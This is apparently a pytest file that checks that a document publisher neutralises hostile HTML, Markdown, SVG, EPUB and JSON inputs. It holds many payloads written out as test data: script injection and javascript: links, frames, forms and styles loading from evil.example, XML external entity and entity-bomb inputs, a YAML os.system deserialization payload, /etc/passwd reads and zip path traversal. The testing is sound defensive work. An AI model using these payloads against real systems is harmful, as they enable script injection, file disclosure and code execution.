"""Hostile sources: each is refused with a clear error or made harmless; what comes out is inspected.

Outputs hold no script, handler, form, frame, remote style, font or picture, and nothing of files
outside the folder of the sources. Words of an attack that stand in the text as words are no danger.
"""

import io
import json
import zipfile

import pytest

import publisher
from tests.tools.hostile import SECRET, TEXT, assert_harmless, assert_inert, built

CONTAINER = (
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
    '<rootfiles><rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
PACKAGE = (
    '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">'
    '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title><dc:language>zh</dc:language>'
    '<dc:identifier id="i">x</dc:identifier></metadata><manifest>'
    '<item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted"/>'
    '<item id="b" href="../secret.txt" media-type="image/png"/></manifest><spine><itemref idref="a"/></spine></package>'
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"{0}>'
    '<rect width="50" height="50" fill="red"/>{1}</svg>'
)
BOMB = (
    '<!DOCTYPE x [<!ENTITY a "{0}">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "]>"
).replace("{0}", "哈" * 100)
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "secret.txt">]>'


def page(inner, head=""):
    return f"<html><head><title>题</title>{head}</head><body><p>{TEXT}</p>{inner}</body></html>"


HTML = {
    "script": page("<script>alert(1)</script>"),
    "script in a paragraph": page("<p>甲<script src='//evil.example/x.js'></script>乙</p>"),
    "handler": page('<p onclick="alert(1)" onmouseover=alert(2)>甲</p>'),
    "handler of a picture": page("<img src=x onerror=alert(1)>"),
    "javascript address": page('<a href="javascript:alert(1)">点</a>'),
    "javascript in capitals and blanks": page('<a href=" JaVa\nScRiPt:alert(1)">点</a>'),
    "javascript by entities": page('<a href="&#106;avascript&colon;alert(1)">点</a>'),
    "vbscript": page('<a href="vbscript:x">点</a>'),
    "data address": page('<a href="data:text/html,<script>alert(1)</script>">点</a>'),
    "local address": page('<a href="file:///etc/passwd">点</a>'),
    "frame": page('<iframe src="https://evil.example/"></iframe>'),
    "object": page(
        '<object data="https://evil.example/x.swf"></object><embed src="//evil.example/y">'
    ),
    "applet": page('<applet code="Evil.class" archive="https://evil.example/a.jar"></applet>'),
    "form": page('<form action="https://evil.example"><input name="a"><button>去</button></form>'),
    "refresh": page("", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    "remote style": page("", '<link rel="stylesheet" href="https://evil.example/a.css">'),
    "import": page("", "<style>@import url(https://evil.example/b.css);</style>"),
    "style attribute": page('<p style="background:url(https://evil.example/d.png)">甲</p>'),
    "expression": page('<p style="width:expression(alert(1))">甲</p>'),
    "base": page('<a href="x">点</a>', '<base href="javascript:alert(1)//">'),
    "svg in the page": page('<svg onload="alert(1)"><script>alert(1)</script></svg>'),
    "formula": page('<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
    "file outside": page(
        '<img src="../secret.txt"><img src="/etc/passwd"><img src="file:///etc/passwd">'
    ),
    "remote picture": page('<img src="https://evil.example/track.png" alt="点">'),
    "template": page(
        "<template><script>alert(1)</script></template><noscript><img src=//evil.example/></noscript>"
    ),
    "marks nobody closed": page("<b><i>" * 3000 + "甲"),
    "spans of a table": page(
        '<table><tr><td colspan="99999999" rowspan="99999999">甲</td></tr></table>'
    ),
    "entities": BOMB + page("&h;"),
}
MARKDOWN = {
    "javascript link": f"# 题\n\n{TEXT} [点](javascript:alert(1)) [又](JAVASCRIPT:alert(1))\n",
    "reference": f"# 题\n\n{TEXT} [点][r]\n\n[r]: javascript:alert(1)\n",
    "raw HTML": f"# 题\n\n{TEXT} <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<div onclick='x()'>块</div>\n",
    "files outside": f"# 题\n\n{TEXT} ![a](/etc/passwd) ![b](../secret.txt) ![c](file:///etc/passwd)\n",
    "code of a front matter": f"---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\n\n{TEXT}\n",
    "aliases of a front matter": "---\na: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + f"---\n\n{TEXT}\n",
    "controls and turns": f"# 题\u202e反\n\n{TEXT}\u202e\u2066\u0000\u0007\u001b[31m\n",
    "deep quotation": ">" * 2000 + TEXT + "\n",
}
DRAWINGS = {
    "script": SVG.format("", "<script>alert(1)</script>"),
    "handlers": SVG.format(' onload="alert(1)"', '<rect width="9" height="9" onclick="x()"/>'),
    "remote": SVG.format("", '<image xlink:href="https://evil.example/x.png" width="9" height="9"/><use href="https://evil.example/y.svg#a"/>'),
    "local": SVG.format("", '<image href="file:///etc/passwd" width="9" height="9"/><image href="secret.txt"/>'),
    "style": SVG.format("", "<style>@import url(https://evil.example/s.css);rect{fill:url(https://evil.example/f)}</style>"),
    "foreign": SVG.format("", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>1</script></body></foreignObject>'),
    "animated": SVG.format("", '<a xlink:href="javascript:alert(1)"><animate attributeName="href" values="javascript:alert(1)"/></a><set attributeName="onclick" to="x"/>'),
    "entity": EXTERNAL + SVG.format("", "<text>&e;</text>"),
}  # fmt: skip


def epub(**members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/epub+zip")
        archive.writestr("META-INF/container.xml", CONTAINER)
        archive.writestr("c.opf", PACKAGE)
        for name, text in members.items():
            archive.writestr(name.replace("__", "."), text)
    return made.getvalue()


XHTML = (
    '{0}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title>{1}</head><body{2}><p>'
    + TEXT
    + "{3}</p></body></html>"
)
BOOKS = {
    "scripts": epub(a__xhtml=XHTML.format("", '<script src="x.js"/>', ' onload="x()"', '<a href="javascript:x()">点</a>')),
    "files outside": epub(a__xhtml=XHTML.format("", "", "", '<img src="../secret.txt" alt="图"/><img src="/etc/passwd" alt="图"/>')),
    "external entity": epub(a__xhtml=XHTML.format(EXTERNAL.replace("x [", "html ["), "", "", "&e;")),
    "entity bomb": epub(a__xhtml=XHTML.format(BOMB.replace("x [", "html ["), "", "", "&h;")),
}  # fmt: skip
TREES = {
    "no object": "[]",
    "unknown type": {"body": [{"t": "Script", "text": "alert(1)"}]},
    "wrong value": {"body": [{"t": "Section", "level": "x", "title": 1}]},
    "a colour's name": {"body": [{"t": "Paragraph", "content": [{"t": "Link", "target": "javascript:alert(1)", "content": [{"t": "Text", "text": TEXT}]}]}]},
    "deep": '{"schema":"publisher-tree/1","meta":{},"body":' + '[{"t":"Quote","blocks":' * 5000 + "[]" + "}]" * 5000 + "}",
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.xhtml", b"<html><script/></html>"),
        ("a.xhtml", b'<html><p onclick="x()"/></html>'),
        ("a.xhtml", b'<html><a href=" java script:x()"/></html>'),
        ("a.xhtml", b'<html><img src="https://evil.example/x.png"/></html>'),
        ("a.svg", b'<svg><image href="file:///etc/passwd"/></svg>'),
        ("a.css", b"@import url(x);"),
        ("a.xml", SECRET.encode()),
    ],
)
def test_what_is_alive_is_seen(name, data):
    with pytest.raises(AssertionError):
        assert_inert(name, data)


@pytest.mark.parametrize("name", HTML)
def test_pages(tmp_path, name):
    assert_harmless(built(tmp_path, "a.html", HTML[name]) or [])


@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown(tmp_path, name):
    assert_harmless(built(tmp_path, "a.md", MARKDOWN[name]) or [])
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", DRAWINGS)
def test_drawings(tmp_path, name):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "d.svg").write_text(DRAWINGS[name])
    (tmp_path / "in" / "secret.txt").write_text(SECRET)
    (tmp_path / "in" / "a.md").write_text(f"# 题\n\n{TEXT}\n\n![图](d.svg)\n", "utf-8")
    result = publisher.convert([tmp_path / "in" / "a.md"], tmp_path / "out")
    assert result.error is None
    assert_harmless([output.path for output in result.outputs])


@pytest.mark.parametrize("name", BOOKS)
def test_books(tmp_path, name):
    assert_harmless(built(tmp_path, "a.epub", BOOKS[name]) or [])


@pytest.mark.parametrize("name", TREES)
def test_trees(tmp_path, name):
    tree = TREES[name]
    if isinstance(tree, dict):
        tree = json.dumps({"schema": "publisher-tree/1", "meta": {}, **tree})
    assert_harmless(built(tmp_path, "a.json", tree) or [])


def test_a_link_out_of_the_folder_is_not_followed(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "secret.png").write_text(SECRET)
    (tmp_path / "in" / "p.png").symlink_to(tmp_path / "secret.png")
    (tmp_path / "in" / "a.md").write_text(f"# 题\n\n{TEXT}\n\n![图](p.png)\n", "utf-8")
    result = publisher.convert([tmp_path / "in" / "a.md"], tmp_path / "out")
    assert_harmless([output.path for output in result.outputs])


@pytest.mark.parametrize("name", ["../a.md", "/a.md", "C:\\a.md", "a/../../b.md"])
def test_names_in_archives_lead_nowhere(tmp_path, name):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, f"# 题\n\n{TEXT}\n")
    assert_harmless(built(tmp_path, "a.zip", made.getvalue()) or [])
    assert sorted(p.name for p in tmp_path.iterdir()) in (
        ["in", "out", "secret.txt"],
        ["in", "secret.txt"],
    )
